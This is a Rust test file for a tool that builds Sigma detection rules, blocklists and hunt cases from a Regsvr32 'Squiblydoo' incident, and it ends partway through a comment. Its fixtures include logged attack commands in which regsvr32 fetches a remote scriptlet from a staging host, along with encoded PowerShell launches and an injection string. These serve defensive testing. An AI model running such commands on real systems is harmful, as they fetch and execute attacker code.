use chrono::NaiveDate;

use super::*;
use crate::domain::attack::Catalog;
use crate::domain::ioc::{Extractor, IocKind};

const SHIPPED_EVENTS: &str = include_str!("../../../cases/regsvr32-squiblydoo/events.jsonl");

/// The code block of the shipped case's finding.
const SHIPPED_CODE_BLOCK: &str = r#"2020-07-22T03:27:53Z WORKSTATION5 Sysmon 1 "C:\windows\system32\regsvr32.exe" /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll (padre: powershell.exe)
2020-07-22T03:27:54Z WORKSTATION5 Sysmon 1 powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBFAHIA... (padre: regsvr32.exe)
2020-07-22T03:27:57Z..03:28:28Z WORKSTATION5 Sysmon 3 powershell.exe -> 10.10.10.5:8444 cada ~5 s (beaconing)"#;

const POWERSHELL_SHA256: &str = "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53";

/// Owned parts of a [`RuleInput`].
struct Case<'a> {
    techniques: Vec<Resolved>,
    iocs: Vec<Ioc>,
    hosts: Vec<String>,
    users: Vec<String>,
    evidence: Vec<&'a str>,
    resolution: Resolution,
}

impl Case<'_> {
    fn input(&self) -> RuleInput<'_> {
        RuleInput {
            incident_id: "INC-2026-0001",
            title: "Regsvr32 cargando scriptlet remoto (Squiblydoo) en WORKSTATION5",
            hypothesis: Some("abuso de regsvr32 /i:http con scrobj.dll"),
            severity: Severity::High,
            resolution: self.resolution,
            techniques: &self.techniques,
            iocs: &self.iocs,
            hosts: &self.hosts,
            users: &self.users,
            evidence: &self.evidence,
            author: "ana",
            date: NaiveDate::from_ymd_opt(2026, 5, 4).unwrap(),
            catalog: Catalog::embedded(),
        }
    }
}

fn classify(values: &[&str]) -> Vec<Ioc> {
    let extractor = Extractor::default();
    values
        .iter()
        .map(|value| extractor.classify_one(value).unwrap())
        .collect()
}

fn resolve(ids: &[&str]) -> Vec<Resolved> {
    ids.iter()
        .map(|id| Catalog::embedded().resolve(id).unwrap())
        .collect()
}

fn shipped_case() -> Case<'static> {
    Case {
        techniques: resolve(&["T1218.010", "T1059.001"]),
        iocs: classify(&[
            "hxxp://10.10.10[.]5:8444/launcher[.]sct",
            "10.10.10.5",
            "908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53",
        ]),
        hosts: vec!["WORKSTATION5.mordor.local".to_string()],
        users: vec!["MORDOR\\pgustavo".to_string()],
        evidence: vec![SHIPPED_CODE_BLOCK, SHIPPED_EVENTS],
        resolution: Resolution::TruePositive,
    }
}

fn sigma_rules(proposals: &[Proposal]) -> Vec<&SigmaRule> {
    proposals
        .iter()
        .filter_map(|proposal| match proposal {
            Proposal::Sigma(rule) => Some(rule),
            _ => None,
        })
        .collect()
}

fn blocklist(proposals: &[Proposal], kind: BlocklistKind) -> Option<&Blocklist> {
    proposals.iter().find_map(|proposal| match proposal {
        Proposal::Blocklist(blocklist) if blocklist.kind == kind => Some(blocklist),
        _ => None,
    })
}

fn hunt_bases(proposals: &[Proposal]) -> Vec<&HuntBasis> {
    proposals
        .iter()
        .filter_map(|proposal| match proposal {
            Proposal::HuntCase(case) => Some(&case.basis),
            _ => None,
        })
        .collect()
}

#[test]
fn shipped_case_has_remote_scriptlet_rule() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let rules = sigma_rules(&proposals);
    let rule = rules
        .iter()
        .find(|rule| {
            rule.kind == SigmaKind::ProcessCreation
                && rule.yaml.contains("'\\regsvr32.exe'")
                && rule.yaml.contains("'/i:http'")
                && rule.yaml.contains("'scrobj.dll'")
        })
        .unwrap_or_else(|| panic!("no regsvr32 remote scriptlet rule in {rules:#?}"));

    assert!(
        rule.yaml.contains("CommandLine|contains|windash:"),
        "{}",
        rule.yaml
    );
    assert!(
        rule.yaml.contains("OriginalFileName: 'REGSVR32.EXE'"),
        "{}",
        rule.yaml
    );
    assert!(
        rule.yaml.contains("    - attack.stealth\n"),
        "{}",
        rule.yaml
    );
    assert!(
        rule.yaml.contains("    - attack.t1218.010\n"),
        "{}",
        rule.yaml
    );
    assert!(!rule.yaml.contains("defense-evasion"), "{}", rule.yaml);

    // Generalised: the rule names no value of the one command line seen.
    assert!(
        !rule.yaml.contains("launcher.sct"),
        "copied the command line: {}",
        rule.yaml
    );
    assert_eq!(rule.level, Severity::High);
    assert_eq!(rule.techniques, ["T1218.010"]);
}

#[test]
fn shipped_case_keeps_private_ip_off_firewall() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let firewall = blocklist(&proposals, BlocklistKind::Firewall).expect("firewall blocklist");
    assert!(
        firewall
            .entries
            .iter()
            .all(|entry| entry.value != "10.10.10.5"),
        "{firewall:?}"
    );
    assert_eq!(
        firewall.excluded,
        [Excluded {
            kind: IocKind::Ipv4,
            value: "10.10.10.5".to_string(),
            reason: ExclusionReason::PrivateAddress,
            component_path: None,
        }]
    );
}

#[test]
fn shipped_case_excludes_powershell_hash() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let edr = blocklist(&proposals, BlocklistKind::Edr).expect("EDR blocklist");
    assert!(edr.entries.is_empty(), "{edr:?}");
    assert_eq!(edr.excluded.len(), 1, "{edr:?}");
    let excluded = &edr.excluded[0];
    assert_eq!(excluded.value, POWERSHELL_SHA256);
    assert_eq!(excluded.reason, ExclusionReason::SystemComponent);
    assert_eq!(
        excluded.component_path.as_deref(),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert!(
        !sigma_rules(&proposals)
            .iter()
            .any(|rule| rule.kind == SigmaKind::FileHash),
        "a hash rule for powershell.exe"
    );
}

#[test]
fn shipped_case_excludes_private_url() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let dns_proxy = blocklist(&proposals, BlocklistKind::DnsProxy).expect("DNS/proxy blocklist");
    assert!(dns_proxy.entries.is_empty(), "{dns_proxy:?}");
    assert_eq!(
        dns_proxy.excluded[0].value,
        "http://10.10.10.5:8444/launcher.sct"
    );
    assert_eq!(
        dns_proxy.excluded[0].reason,
        ExclusionReason::PrivateAddress
    );
}

#[test]
fn shipped_case_rule_kinds_in_order() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let titles: Vec<&str> = sigma_rules(&proposals)
        .iter()
        .map(|rule| rule.title.as_str())
        .collect();
    assert_eq!(
        titles,
        [
            "regsvr32.exe With Remote URL in /i: and scrobj.dll (INC-2026-0001)",
            "powershell.exe Started by regsvr32.exe (INC-2026-0001)",
            "PowerShell With Encoded Command (INC-2026-0001)",
            "Script Engine Loaded by regsvr32.exe (INC-2026-0001)",
            "Network Connection Initiated by regsvr32.exe (INC-2026-0001)",
            "Network Connection to Attack Addresses (INC-2026-0001)",
        ]
    );
}

#[test]
fn shipped_case_hunt_cases() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let bases = hunt_bases(&proposals);
    let codes: Vec<&str> = bases.iter().map(|basis| basis.code()).collect();
    assert_eq!(
        codes,
        [
            "same_technique_other_hosts",
            "same_technique_other_hosts",
            "parent_child_chain",
            "script_engine_load",
            "beaconing",
            "internal_staging_host",
            "indicator_sweep",
        ]
    );

    assert!(bases.contains(&&HuntBasis::ParentChildChain {
        parent: "regsvr32.exe".to_string(),
        child: "powershell.exe".to_string(),
    }));
    assert!(bases.contains(&&HuntBasis::ScriptEngineLoad {
        image: "regsvr32.exe".to_string(),
        modules: vec![
            "scrobj.dll".to_string(),
            "jscript.dll".to_string(),
            "wshom.ocx".to_string()
        ],
    }));
    assert!(bases.contains(&&HuntBasis::Beaconing {
        image: "powershell.exe".to_string(),
        ip: "10.10.10.5".to_string(),
        port: 80,
        connections: 9,
        interval_seconds: 5,
        internal: true,
    }));

    assert!(bases.contains(&&HuntBasis::InternalStagingHost {
        ip: "10.10.10.5".to_string(),
        urls: vec!["http://10.10.10.5:8444/launcher.sct".to_string()],
    }));

    // The sweep keeps the internal indicators and drops the system file hash.
    let HuntBasis::IndicatorSweep { indicators } = bases.last().unwrap() else {
        panic!("last basis is not a sweep: {bases:?}");
    };
    let values: Vec<&str> = indicators.iter().map(|i| i.value.as_str()).collect();
    assert_eq!(
        values,
        ["http://10.10.10.5:8444/launcher.sct", "10.10.10.5"]
    );
}

#[test]
fn propose_is_deterministic() {
    let case = shipped_case();
    assert_eq!(propose(&case.input()), propose(&case.input()));
}

#[test]
fn rule_ids_depend_on_incident() {
    let case = shipped_case();
    let first = propose(&case.input());
    let mut other = case.input();
    other.incident_id = "INC-2026-0042";
    let second = propose(&other);
    let first_ids: Vec<_> = sigma_rules(&first).iter().map(|rule| rule.id).collect();
    let second_ids: Vec<_> = sigma_rules(&second).iter().map(|rule| rule.id).collect();
    assert_eq!(first_ids.len(), second_ids.len());
    assert!(first_ids.iter().all(|id| !second_ids.contains(id)));
}

#[test]
fn rule_ids_ignore_title_and_author() {
    let case = shipped_case();
    let first = propose(&case.input());
    let mut other = case.input();
    other.title = "another title";
    other.author = "luis";
    other.date = NaiveDate::from_ymd_opt(2027, 1, 1).unwrap();
    let second = propose(&other);
    let ids = |proposals: &[Proposal]| -> Vec<uuid::Uuid> {
        sigma_rules(proposals).iter().map(|rule| rule.id).collect()
    };
    assert_eq!(ids(&first), ids(&second));
}

#[test]
fn rule_ids_are_version_5() {
    let case = shipped_case();
    for rule in sigma_rules(&propose(&case.input())) {
        assert_eq!(rule.id.get_version_num(), 5, "{}", rule.id);
        assert!(rule.yaml.contains(&format!("id: {}\n", rule.id)));
    }
}

#[test]
fn false_positive_proposes_only_tuning() {
    let mut case = shipped_case();
    case.resolution = Resolution::FalsePositive;
    let proposals = propose(&case.input());
    assert_eq!(proposals.len(), 1, "{proposals:#?}");
    let Proposal::HuntCase(hunt) = &proposals[0] else {
        panic!("expected a hunt case: {proposals:?}");
    };
    assert_eq!(hunt.techniques, ["T1218.010", "T1059.001"]);
    let HuntBasis::TuningException {
        resolution,
        hosts,
        users,
        images,
        indicators,
    } = &hunt.basis
    else {
        panic!("expected a tuning exception: {:?}", hunt.basis);
    };
    assert_eq!(*resolution, Resolution::FalsePositive);
    assert_eq!(hosts, &["WORKSTATION5.mordor.local"]);
    assert_eq!(users, &["MORDOR\\pgustavo"]);
    assert_eq!(images, &["regsvr32.exe", "powershell.exe", "conhost.exe"]);
    assert_eq!(indicators.len(), 3);
    assert_eq!(hunt.basis.code(), "tuning_exception");
}

#[test]
fn benign_proposes_no_blocklist() {
    let mut case = shipped_case();
    case.resolution = Resolution::Benign;
    let proposals = propose(&case.input());
    assert!(
        proposals
            .iter()
            .all(|proposal| matches!(proposal, Proposal::HuntCase(_))),
        "{proposals:#?}"
    );
}

#[test]
fn no_evidence_no_iocs_no_rules() {
    let mut case = shipped_case();
    case.iocs.clear();
    case.evidence.clear();
    let proposals = propose(&case.input());
    assert!(sigma_rules(&proposals).is_empty());
    assert!(blocklist(&proposals, BlocklistKind::Firewall).is_none());
    let codes: Vec<&str> = hunt_bases(&proposals).iter().map(|b| b.code()).collect();
    assert_eq!(
        codes,
        ["same_technique_other_hosts", "same_technique_other_hosts"]
    );
}

#[test]
fn code_block_alone_gives_no_behaviour_rule() {
    // Free-form lines such as the finding's code block are not parsed, and
    // without the Sysmon records nothing shows that the SHA-256 is
    // powershell.exe's, so only the hash rule and the EDR entry remain.
    let mut case = shipped_case();
    case.evidence = vec![SHIPPED_CODE_BLOCK];
    let proposals = propose(&case.input());
    let kinds: Vec<SigmaKind> = sigma_rules(&proposals)
        .iter()
        .map(|rule| rule.kind)
        .collect();
    assert_eq!(kinds, [SigmaKind::FileHash]);
    let edr = blocklist(&proposals, BlocklistKind::Edr).unwrap();
    assert_eq!(edr.entries[0].value, POWERSHELL_SHA256);
}

#[test]
fn blocklists_sort_and_exclude_by_flag() {
    let mut case = shipped_case();
    case.evidence.clear();
    case.iocs = classify(&[
        "45.9.148.17",
        "127.0.0.1",
        "169.254.10.1",
        "224.0.0.251",
        "203.0.113.9",
        "240.0.0.1",
        "fd00::1",
        "45.9.148.0/24",
        "huntbridge-fixture.net",
        "fileserver.corp.local",
        "microsoft.com",
        "hxxps://cdn.huntbridge-fixture[.]net/a.hta",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "5d41402abc4b2a76b9719d911017c592",
        "regsvr32.exe",
        "ana@huntbridge-fixture.net",
    ]);
    let proposals = propose(&case.input());

    let firewall = blocklist(&proposals, BlocklistKind::Firewall).unwrap();
    let entries: Vec<&str> = firewall.entries.iter().map(|e| e.value.as_str()).collect();
    assert_eq!(entries, ["45.9.148.17", "45.9.148.0/24"]);
    let reasons: Vec<(&str, ExclusionReason)> = firewall
        .excluded
        .iter()
        .map(|e| (e.value.as_str(), e.reason))
        .collect();
    assert_eq!(
        reasons,
        [
            ("127.0.0.1", ExclusionReason::Loopback),
            ("169.254.10.1", ExclusionReason::LinkLocal),
            ("224.0.0.251", ExclusionReason::Multicast),
            ("203.0.113.9", ExclusionReason::DocumentationRange),
            ("240.0.0.1", ExclusionReason::ReservedRange),
            ("fd00::1", ExclusionReason::PrivateAddress),
        ]
    );

    let dns_proxy = blocklist(&proposals, BlocklistKind::DnsProxy).unwrap();
    let entries: Vec<&str> = dns_proxy.entries.iter().map(|e| e.value.as_str()).collect();
    assert_eq!(
        entries,
        [
            "huntbridge-fixture.net",
            "https://cdn.huntbridge-fixture.net/a.hta"
        ]
    );
    let reasons: Vec<(&str, ExclusionReason)> = dns_proxy
        .excluded
        .iter()
        .map(|e| (e.value.as_str(), e.reason))
        .collect();
    assert_eq!(
        reasons,
        [
            ("fileserver.corp.local", ExclusionReason::InternalName),
            ("microsoft.com", ExclusionReason::KnownGood),
        ]
    );

    let edr = blocklist(&proposals, BlocklistKind::Edr).unwrap();
    let entries: Vec<&str> = edr.entries.iter().map(|e| e.value.as_str()).collect();
    assert_eq!(entries, ["5d41402abc4b2a76b9719d911017c592"]);
    assert_eq!(edr.excluded[0].reason, ExclusionReason::KnownGood);

    // File names and e-mail addresses have no blocklist.
    let blocklists = proposals
        .iter()
        .filter(|proposal| matches!(proposal, Proposal::Blocklist(_)))
        .count();
    assert_eq!(blocklists, 3);
}

#[test]
fn exclusion_reason_codes_are_serde_names() {
    for reason in [
        ExclusionReason::PrivateAddress,
        ExclusionReason::InternalName,
        ExclusionReason::Loopback,
        ExclusionReason::LinkLocal,
        ExclusionReason::Multicast,
        ExclusionReason::ReservedRange,
        ExclusionReason::DocumentationRange,
        ExclusionReason::KnownGood,
        ExclusionReason::SystemComponent,
    ] {
        let json = serde_json::to_string(&reason).unwrap();
        assert_eq!(json, format!("\"{}\"", reason.code()));
    }
    for kind in BlocklistKind::ALL {
        let json = serde_json::to_string(&kind).unwrap();
        assert_eq!(json, format!("\"{}\"", kind.as_str()));
    }
}

#[test]
fn proposals_round_trip_through_json() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let json = serde_json::to_string(&proposals).unwrap();
    let back: Vec<Proposal> = serde_json::from_str(&json).unwrap();
    assert_eq!(back, proposals);
    assert!(json.contains("\"type\":\"sigma\""), "{json}");
    assert!(json.contains("\"kind\":\"process_creation\""), "{json}");
    assert!(json.contains("\"code\":\"parent_child_chain\""), "{json}");
}

#[test]
fn removed_technique_stays_out_of_tags() {
    // T1562.001 was removed in ATT&CK v19; Sigma's tag check rejects it.
    let mut case = shipped_case();
    case.evidence.clear();
    case.techniques = resolve(&["T1562.001", "T1105"]);
    case.iocs = classify(&["45.9.148.17"]);
    let proposals = propose(&case.input());
    let rules = sigma_rules(&proposals);
    assert_eq!(rules.len(), 1);
    assert_eq!(rules[0].techniques, ["T1105"]);
    assert!(!rules[0].yaml.contains("t1562"), "{}", rules[0].yaml);
    assert!(
        !rules[0].yaml.contains("defense-evasion"),
        "{}",
        rules[0].yaml
    );
}

#[test]
fn resolution_parses_english_and_spanish() {
    let cases = [
        ("true-positive", Resolution::TruePositive),
        ("True Positive", Resolution::TruePositive),
        ("tp", Resolution::TruePositive),
        ("verdadero-positivo", Resolution::TruePositive),
        ("VERDADERO_POSITIVO", Resolution::TruePositive),
        ("false-positive", Resolution::FalsePositive),
        ("falso-positivo", Resolution::FalsePositive),
        ("FP", Resolution::FalsePositive),
        ("benign", Resolution::Benign),
        ("benigno", Resolution::Benign),
        ("Benigna", Resolution::Benign),
    ];
    for (input, expected) in cases {
        assert_eq!(input.parse::<Resolution>(), Ok(expected), "input {input:?}");
    }
    for resolution in Resolution::ALL {
        assert_eq!(resolution.as_str().parse::<Resolution>(), Ok(resolution));
        let json = serde_json::to_string(&resolution).unwrap();
        assert_eq!(json, format!("\"{}\"", resolution.as_str()));
    }
}

#[test]
fn resolution_rejects_unknown_word() {
    let error = "maybe".parse::<Resolution>().unwrap_err();
    assert_eq!(error.value, "maybe");
    assert_eq!(error.code(), "invalid_resolution");
    assert!(error.to_string().contains("true-positive"), "{error}");
}

#[test]
fn evidence_reads_shipped_json_lines() {
    let events = evidence::parse(&[SHIPPED_EVENTS]);
    let count = |id| events.iter().filter(|event| event.id == id).count();
    assert_eq!(count(evidence::PROCESS_CREATION), 3);
    assert_eq!(count(evidence::NETWORK_CONNECTION), 10);
    assert_eq!(count(evidence::IMAGE_LOAD), 5);
    // The file creation (event 11) is the prefetch file of regsvr32.exe.
    assert_eq!(count(evidence::FILE_CREATE), 1);
    assert_eq!(events.len(), 19);
    let regsvr32 = &events[0];
    assert_eq!(regsvr32.basename("Image").as_deref(), Some("regsvr32.exe"));
    assert_eq!(regsvr32.get("OriginalFileName"), Some("REGSVR32.EXE"));
}

#[test]
fn evidence_reads_text_form() {
    let text = "Some prose.\r\n\r\nNetwork connection detected:\r\nRuleName: -\r\n\
                UtcTime: 2026-04-30 10:15:01.210\r\nImage: C:\\Windows\\System32\\rundll32.exe\r\n\
                Initiated: true\r\nDestinationIp: 45.9.148.17\r\nDestinationPort: 443\r\n\r\n\
                Dns query:\nImage: C:\\Windows\\System32\\mshta.exe\nQueryName: a.example.org\n";
    let events = evidence::parse(&[text]);
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(events[0].id, evidence::NETWORK_CONNECTION);
    assert_eq!(events[0].get("DestinationIp"), Some("45.9.148.17"));
    assert_eq!(events[0].get("RuleName"), None, "`-` reads as missing");
    assert!(events[0].initiated());
    assert_eq!(events[1].id, evidence::DNS_QUERY);
    assert_eq!(events[1].get("QueryName"), Some("a.example.org"));
}

#[test]
fn evidence_reads_json_array_and_nested_fields() {
    let text = r#"[
        {"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 22,
                    "event_data": {"Image": "C:\\x\\mshta.exe", "QueryName": "a.example.org"}}},
        {"event": {"code": "3"}, "Image": "C:\\x\\rundll32.exe", "DestinationIp": "45.9.148.17"}
    ]"#;
    let events = evidence::parse(&[text]);
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(events[0].id, evidence::DNS_QUERY);
    assert_eq!(events[0].get("QueryName"), Some("a.example.org"));
    assert_eq!(events[1].id, evidence::NETWORK_CONNECTION);
}

#[test]
fn evidence_skips_other_channels() {
    let text = r#"{"EventID": 1, "Channel": "Security", "Image": "C:\\x\\regsvr32.exe", "CommandLine": "regsvr32 /i:http://a/b scrobj.dll"}"#;
    assert!(evidence::parse(&[text]).is_empty());
}

#[test]
fn evidence_reads_message_only_record() {
    let text = r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "Message": "Process Create:\r\nImage: C:\\Windows\\System32\\regsvr32.exe\r\nCommandLine: regsvr32 /s /i:https://a.example.org/x.sct scrobj.dll"}"#;
    let events = evidence::parse(&[text]);
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0].id, evidence::PROCESS_CREATION);
    assert_eq!(events[0].basename("Image").as_deref(), Some("regsvr32.exe"));
}

#[test]
fn system_files_need_system_folder_and_microsoft() {
    let line = |image: &str, company: &str| {
        format!(
            r#"{{"EventID": 1, "Image": "{image}", "Company": "{company}", "Hashes": "MD5=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,SHA256=BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB,IMPHASH=CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC"}}"#
        )
    };
    let system = line(
        r"C:\\Windows\\SysWOW64\\rundll32.exe",
        "Microsoft Corporation",
    );
    let files = evidence::system_file_hashes(&evidence::parse(&[&system]));
    assert_eq!(files.len(), 2, "{files:?}");
    assert!(files.contains_key(&"b".repeat(64)));
    assert!(
        !files.contains_key(&"c".repeat(32)),
        "IMPHASH is not a file hash"
    );

    let user_folder = line(r"C:\\Users\\Public\\rundll32.exe", "Microsoft Corporation");
    assert!(evidence::system_file_hashes(&evidence::parse(&[&user_folder])).is_empty());
    let other_company = line(r"C:\\Windows\\System32\\evil.exe", "Evil Corp");
    assert!(evidence::system_file_hashes(&evidence::parse(&[&other_company])).is_empty());
}

#[test]
fn system_files_reject_invalid_signature() {
    let text = r#"{"EventID": 7, "Image": "C:\\Windows\\System32\\regsvr32.exe", "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll", "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Expired", "Hashes": "SHA256=BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"}"#;
    assert!(evidence::system_file_hashes(&evidence::parse(&[text])).is_empty());
    let valid = text.replace("Expired", "Valid");
    assert_eq!(
        evidence::system_file_hashes(&evidence::parse(&[&valid])).len(),
        1
    );
}

#[test]
fn encoded_command_flags() {
    for line in [
        "powershell.exe -enc SQBG",
        "powershell -e SQBG",
        "powershell.exe -NoP -EncodedCommand SQBG",
        "pwsh /ec SQBG",
        "powershell -ENCOD SQBG",
    ] {
        assert!(behaviour::has_encoded_command_flag(line), "{line}");
    }
    for line in [
        "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
        "powershell -ep bypass",
        "-enc",
        "powershell.exe -Command Get-Date",
    ] {
        assert!(!behaviour::has_encoded_command_flag(line), "{line}");
    }
}

#[test]
fn url_arguments_keep_their_flag() {
    let arguments = behaviour::url_arguments(
        r#""C:\windows\system32\regsvr32.exe" /s /n /u -I:"HTTPS://a.example.org/x.sct" scrobj.dll"#,
    );
    assert_eq!(arguments.len(), 1);
    assert_eq!(arguments[0].flag.as_deref(), Some("/i:"));

    let bare = behaviour::url_arguments("mshta.exe http://a.example.org/x.hta");
    assert_eq!(bare.len(), 1);
    assert_eq!(bare[0].flag, None);

    assert!(behaviour::url_arguments("regsvr32.exe /s payload.dll").is_empty());
    assert!(behaviour::url_arguments("rundll32.exe file://c/x").is_empty());
}

#[test]
fn behaviour_techniques_are_active() {
    let catalog = Catalog::embedded();
    let techniques = behaviour::PROXY_BINARIES
        .iter()
        .map(|binary| binary.technique)
        .chain(
            behaviour::INTERPRETERS
                .iter()
                .filter_map(|family| family.technique),
        )
        .chain(["T1027", "T1071", "T1071.001", "T1105"]);
    for id in techniques {
        let resolved = catalog.resolve(id).unwrap();
        assert_eq!(resolved.id, id);
        assert_eq!(
            resolved.status,
            crate::domain::attack::Status::Active,
            "{id}"
        );
    }
}

#[test]
fn beacon_needs_regular_gaps() {
    let event = |time: &str| {
        format!(
            r#"{{"EventID": 3, "Image": "C:\\x\\powershell.exe", "Initiated": "true", "DestinationIp": "45.9.148.17", "DestinationPort": "443", "UtcTime": "2026-04-30 {time}"}}"#
        )
    };
    let regular = [
        "10:00:00.000",
        "10:00:30.200",
        "10:01:00.100",
        "10:01:29.900",
        "10:02:00.000",
    ]
    .map(event)
    .join("\n");
    let irregular = [
        "10:00:00.000",
        "10:00:02.000",
        "10:05:00.000",
        "10:05:03.000",
        "10:30:00.000",
    ]
    .map(event)
    .join("\n");

    let mut case: Case = shipped_case();
    case.iocs.clear();
    case.evidence = vec![&regular];
    let bases = hunt_bases(&propose(&case.input()))
        .into_iter()
        .cloned()
        .collect::<Vec<_>>();
    assert!(bases.contains(&HuntBasis::Beaconing {
        image: "powershell.exe".to_string(),
        ip: "45.9.148.17".to_string(),
        port: 443,
        connections: 5,
        interval_seconds: 30,
        internal: false,
    }));

    case.evidence = vec![&irregular];
    let proposals = propose(&case.input());
    assert!(
        !hunt_bases(&proposals)
            .iter()
            .any(|basis| basis.code() == "beaconing"),
        "{proposals:#?}"
    );
}

#[test]
fn cidr_contains_checks_prefix() {
    let ip = |text: &str| text.parse().unwrap();
    assert!(detect::cidr_contains("45.9.148.0/24", ip("45.9.148.17")));
    assert!(!detect::cidr_contains("45.9.148.0/24", ip("45.9.149.17")));
    assert!(detect::cidr_contains("0.0.0.0/0", ip("8.8.8.8")));
    assert!(detect::cidr_contains(
        "2a0e:97c0::/32",
        ip("2a0e:97c0:3e3:1ba::17")
    ));
    assert!(!detect::cidr_contains("2a0e:97c0::/32", ip("45.9.148.17")));
    assert!(!detect::cidr_contains("45.9.148.0/33", ip("45.9.148.17")));
}

#[test]
fn url_parts() {
    assert_eq!(
        blocklist::url_host("http://10.10.10.5:8444/launcher.sct"),
        "10.10.10.5"
    );
    assert_eq!(
        blocklist::url_host("https://u:p@[2001:db8::1]:8080/x"),
        "2001:db8::1"
    );
    assert_eq!(
        blocklist::url_host("https://a.example.org"),
        "a.example.org"
    );
    assert_eq!(
        blocklist::url_path("http://10.10.10.5:8444/launcher.sct"),
        "/launcher.sct"
    );
    assert_eq!(blocklist::url_path("https://a.example.org?q=1"), "?q=1");
    assert_eq!(blocklist::url_path("https://a.example.org"), "");
}

#[test]
fn yaml_scalars_quote_when_needed() {
    assert_eq!(yaml::scalar("ana"), "ana");
    assert_eq!(yaml::scalar("Ana María (SOC)"), "Ana María (SOC)");
    assert_eq!(yaml::scalar("yes"), "'yes'");
    assert_eq!(yaml::scalar("a: b"), "'a: b'");
    assert_eq!(yaml::scalar("it's"), "'it''s'");
    assert_eq!(yaml::scalar("#hunt"), "'#hunt'");
    assert_eq!(yaml::scalar("two\nlines"), "two lines");
    assert_eq!(yaml::scalar(""), "''");
    assert_eq!(yaml::quoted("\\regsvr32.exe"), "'\\regsvr32.exe'");
}

#[test]
fn hostile_author_stays_one_scalar() {
    let case = shipped_case();
    let mut input = case.input();
    input.author = "x'\nlevel: low\ntags: [evil]";
    for rule in sigma_rules(&propose(&input)) {
        let document: serde_yaml_ng::Value = serde_yaml_ng::from_str(&rule.yaml).unwrap();
        assert_eq!(
            document["author"].as_str(),
            Some("x' level: low tags: [evil]")
        );
        assert_eq!(document["level"].as_str(), Some("high"));
    }
}

/// A small Sigma evaluator for the subset the generator writes (`endswith`,
/// `contains`, `windash`, `all`, and `selection`, `all of x*` and `1 of x*`
/// conditions), to check that each rule matches the records it came from
/// and not their neighbours.
mod matcher {
    use serde_yaml_ng::Value;

    use super::evidence::SysmonEvent;

    /// Returns whether the rule's detection matches the record.
    pub fn matches(rule_yaml: &str, event: &SysmonEvent) -> bool {
        let document: Value = serde_yaml_ng::from_str(rule_yaml).unwrap();
        let detection = document["detection"].as_mapping().unwrap();
        let condition = detection["condition"].as_str().unwrap();
        let names: Vec<&str> = detection
            .keys()
            .filter_map(Value::as_str)
            .filter(|name| *name != "condition")
            .collect();
        let selection = |name: &&str| matches_item(&detection[*name], event);
        match condition.split_whitespace().collect::<Vec<_>>().as_slice() {
            ["all", "of", pattern] => names.iter().filter(|n| glob(pattern, n)).all(selection),
            ["1", "of", pattern] => names.iter().filter(|n| glob(pattern, n)).any(selection),
            [name] => selection(name),
            other => panic!("unsupported condition {other:?}"),
        }
    }

    fn glob(pattern: &str, name: &str) -> bool {
        match pattern.strip_suffix('*') {
            Some(prefix) => name.starts_with(prefix),
            None => name == pattern,
        }
    }

    fn matches_item(item: &Value, event: &SysmonEvent) -> bool {
        match item {
            Value::Mapping(fields) => fields
                .iter()
                .all(|(key, values)| matches_field(key.as_str().unwrap(), values, event)),
            Value::Sequence(items) => items.iter().any(|item| matches_item(item, event)),
            other => panic!("unsupported detection item {other:?}"),
        }
    }

    fn matches_field(key: &str, values: &Value, event: &SysmonEvent) -> bool {
        let mut parts = key.split('|');
        let field = parts.next().unwrap();
        let modifiers: Vec<&str> = parts.collect();
        let Some(actual) = event.get(field) else {
            return false;
        };
        let actual = actual.to_lowercase();
        let values: Vec<String> = match values {
            Value::Sequence(items) => items
                .iter()
                .map(|item| item.as_str().unwrap().to_string())
                .collect(),
            Value::String(text) => vec![text.clone()],
            other => panic!("unsupported value {other:?}"),
        };
        let test = |pattern: &String| {
            let variants = if modifiers.contains(&"windash") {
                windash_variants(pattern)
            } else {
                vec![pattern.clone()]
            };
            variants.iter().any(|variant| {
                let variant = variant.to_lowercase();
                if modifiers.contains(&"contains") {
                    actual.contains(&variant)
                } else if modifiers.contains(&"endswith") {
                    actual.ends_with(&variant)
                } else {
                    actual == variant
                }
            })
        };
        if modifiers.contains(&"all") {
            values.iter().all(test)
        } else {
            values.iter().any(test)
        }
    }

    /// Expands `-` and `/` before a word and not after one into the five
    /// dash forms, as pySigma's `windash` modifier does.
    fn windash_variants(pattern: &str) -> Vec<String> {
        let chars: Vec<char> = pattern.chars().collect();
        let is_word = |c: char| c.is_alphanumeric() || c == '_';
        let mut variants = vec![String::new()];
        for (index, &c) in chars.iter().enumerate() {
            let before_word = chars.get(index + 1).is_some_and(|next| is_word(*next));
            let after_word = index > 0 && is_word(chars[index - 1]);
            let forms: Vec<char> = if matches!(c, '-' | '/') && before_word && !after_word {
                vec!['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']
            } else {
                vec![c]
            };
            variants = variants
                .iter()
                .flat_map(|prefix| forms.iter().map(move |form| format!("{prefix}{form}")))
                .collect();
        }
        variants
    }
}

/// Returns, for the rule with this title prefix, which records of its
